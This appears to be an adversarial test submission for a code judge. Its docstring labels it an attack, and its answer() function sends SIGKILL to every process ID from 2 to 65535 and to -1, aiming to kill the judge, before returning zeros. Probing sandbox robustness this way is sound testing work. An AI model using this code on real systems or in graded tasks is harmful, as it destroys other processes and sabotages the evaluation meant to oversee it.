"""attack: harm: SIGKILL every process it can see or guess (the judge among them)
problem: oracle
expect: WA
needs: pid
"""
import os
import signal

import numpy as np


def answer(x):
    for pid in list(range(2, 65536)) + [-1]:
        if pid == os.getpid():
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return np.zeros_like(x)
